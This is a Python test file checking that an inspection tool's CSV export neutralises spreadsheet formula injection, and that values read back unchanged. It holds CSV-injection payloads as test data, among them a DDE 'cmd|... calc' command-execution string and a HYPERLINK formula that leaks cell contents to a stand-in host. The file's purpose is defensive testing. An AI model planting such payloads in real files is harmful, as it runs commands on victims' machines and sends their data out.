"""CSV export never hands a spreadsheet a formula (OWASP "CSV Injection"), and reads back exactly:
part ids from file names and a model's reason crafted as formulas, through a real run."""

from __future__ import annotations

import csv
import json
import re

import cv2
import numpy as np
import pytest

from inspector.config import Settings
from inspector.export.csv_file import FORMULA_STARTS, neutralised, read_csv, restored
from inspector.store import Store
from tests.support.recipes import recipe_file
from tests.support.records_data import inspector, make_users
from tests.support.scripted_judge import run_scripted

NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
# Part ids (from the images' file names), each a formula a spreadsheet would run.
FORMULA_NAMES = (
    "=1+2",
    "+SUM(1;2)",
    "-2+3+cmd|' -C calc'!A0",
    "@SUM(1,2)",
    "\tTAB=1+1",
    "\rCR=1+1",
    "'=quoted",
)
REASON = '=HYPERLINK("https://example.com/?leak="&A1,"open me")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'already text", "''already text"),  # so that reading back takes exactly one off
        ("-12.5", "-12.5"),  # a number is read as a number, never run: kept readable
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-inf", "'-inf"),  # not a number a spreadsheet knows
        ("-", "'-"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_marked_as_text(value, cell):
    assert neutralised(value) == cell
    assert restored(neutralised(value)) == value


def _folder_of_formulas(tmp_path):
    folder = tmp_path / "parts"
    folder.mkdir()
    image = np.full((40, 60, 3), 90, np.uint8)
    for name in (*FORMULA_NAMES, "-12.5"):
        assert cv2.imwrite(str(folder / f"{name}.png"), image)
    return folder


def test_an_export_of_formula_part_ids_and_reason_runs_nothing_and_reads_back(tmp_path):
    folder = _folder_of_formulas(tmp_path)
    answer = json.dumps({"outcome": "PASS", "defects": [], "confidence": 0.9, "reason": REASON})
    recipe = recipe_file(tmp_path, [{"engine": "scripted", "answers": [answer]}])
    data = tmp_path / "data"
    source = f"folder:{folder}"
    run = run_scripted("run", "--source", source, "--recipe", str(recipe), data_dir=data)
    assert run.returncode == 0, run.stderr
    settings = Settings.from_env(data_dir=data, database_url=None)
    with Store.open(settings) as store:
        make_users(store)
    out = tmp_path / "records.csv"
    result = inspector(settings, "export", "csv", str(out), user="olly")
    assert result.returncode == 0, result.stderr

    with open(out, newline="", encoding="utf-8") as text:
        rows = list(csv.reader(text))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULA_NAMES) + 1
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), cell
    raw = {name: [dict(zip(header, row, strict=True))[name] for row in body] for name in header}
    assert sorted(raw["part_id"]) == sorted(["'" + n for n in FORMULA_NAMES] + ["-12.5"])
    assert set(raw["reason"]) == {"'" + REASON}
    assert out.read_text(encoding="utf-8").startswith('"inspection_id","uid",')  # all quoted

    records = list(read_csv(out))  # the exact values, as recorded
    assert sorted(r["part_id"] for r in records) == sorted([*FORMULA_NAMES, "-12.5"])
    assert {r["reason"] for r in records} == {REASON}
